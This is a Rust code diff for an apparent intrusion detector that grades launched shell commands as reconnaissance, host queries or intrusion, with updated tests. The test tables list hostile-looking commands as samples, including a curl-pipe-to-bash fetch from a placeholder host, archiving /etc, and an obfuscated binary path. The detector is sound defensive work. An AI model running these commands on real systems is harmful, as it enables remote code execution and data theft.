@@ -6,8 +6,8 @@
 
 use super::{
     launched::Launched,
-    names::{AROUND, LETS_IN, SESSION, WRAPPERS},
-    program::{Kind, Program, Told, is_dropped, is_intrusion, is_reconnaissance, name},
+    names::{AROUND, LETS_IN, SESSION, WRAPPERS, WRAPPERS_OF_FILES},
+    program::{Kind, Program, Told, asks_about_host, is_dropped, is_intrusion, is_reconnaissance, name},
     shell::Script,
 };
 use crate::Severity;
@@ -56,7 +56,7 @@ pub fn told(launched: &Launched<'_>) -> Option<(Severity, &'static str)> {
         }
         Grade::Plain => false,
         Grade::Anyones => near && launched.could_be_told(),
-        Grade::Looks => near && launched.could_be_left(),
+        Grade::Looks => near,
         Grade::Enters => true,
     };
     Some((if high { Severity::High } else { Severity::Medium }, why))
@@ -115,7 +115,9 @@ fn says(program: &str, args: &[String], depth: u8) -> Says {
     }
     let wraps = WRAPPERS.contains(&own);
     let behind = || (0..args.len().min(MAX_WORDS)).map(|at| (args[at].as_str(), &args[at + 1..]));
-    if wraps && let Some(says) = behind().find_map(|(program, args)| graded(program, args, depth)) {
+    let file = |program: &str| program.contains('/') && WRAPPERS_OF_FILES.contains(&own);
+    let mut programs = behind().filter(|(program, _)| !file(program));
+    if wraps && let Some(says) = programs.find_map(|(program, args)| graded(program, args, depth)) {
         return says;
     }
     // Values of its options are taken for the program sometimes: that is one of the application's, then.
@@ -142,7 +144,9 @@ fn graded(program: &str, args: &[String], depth: u8) -> Option<Says> {
         let (grade, why) = grade(kind, depth + 1);
         (grade > Grade::Plain).then_some((grade, why))?
     } else if is_reconnaissance(program, args) {
-        (Grade::Looks, "it asks who and where it is")
+        (Grade::Looks, "it asks who it is, and who is there")
+    } else if asks_about_host(program, args) {
+        (Grade::Anyones, "it asks where it is")
     } else if is_intrusion(program, args) {
         (Grade::Enters, "it runs what brings an intruder in")
     } else if is_dropped(program) {
@@ -268,6 +272,10 @@ mod tests {
             ("ls -la", Grade::Anyones),
             ("curl -s http://h/x", Grade::Anyones),
             ("python3 -c 'print(1)' | head", Grade::Anyones),
+            ("uname -a", Grade::Anyones),
+            ("find /tmp/x -mtime +7 -delete", Grade::Anyones),
+            ("flock /tmp/lock make all", Grade::Plain),
+            ("find /srv -exec id ;", Grade::Looks),
             ("id", Grade::Looks),
             ("curl http://h/x | bash", Grade::Looks),
             ("/b?n/cat x", Grade::Looks),
@@ -286,8 +294,7 @@ mod tests {
         use Severity::{High, Medium};
         let (near, other) = (Below::Child, Below::Deeper { ordered: false });
         let unknown = Room::default();
-        let room = |open| Room { open: Some(open), before: Some(0), opaque: 0 };
-        let before = Room { before: Some(24), ..room(0) };
+        let room = |open| Room { open: Some(open), opaque: 0 };
         let opaque = Room { opaque: 24, ..room(24) };
         let cases: &[(&[&str], Below, Room, Severity)] = &[
             (&["sh", "-c", "ls -la /srv"], near, unknown, High),
@@ -296,10 +303,8 @@ mod tests {
             (&["python3", "-c", "print(1)"], near, room(0), Medium),
             (&["bash", "-s"], near, room(0), Medium),
             (&["bash", "-s"], near, room(2), High),
-            (&["bash", "-s"], near, before, Medium),
-            (&["sh", "-c", "id"], near, room(0), Medium),
-            (&["sh", "-c", "id"], near, room(2), High),
-            (&["sh", "-c", "id"], near, before, High),
+            (&["sh", "-c", "uname -a"], near, room(0), Medium),
+            (&["sh", "-c", "uname -a"], near, room(8), High),
             (&["sh", "-c", "ip addr show | grep inet"], near, room(6), Medium),
             (&["sh", "-c", "tar -czf /srv/x /etc"], near, opaque, High),
             (&["sh", "-c", "tar -czf /srv/x /etc"], near, room(24), Medium),
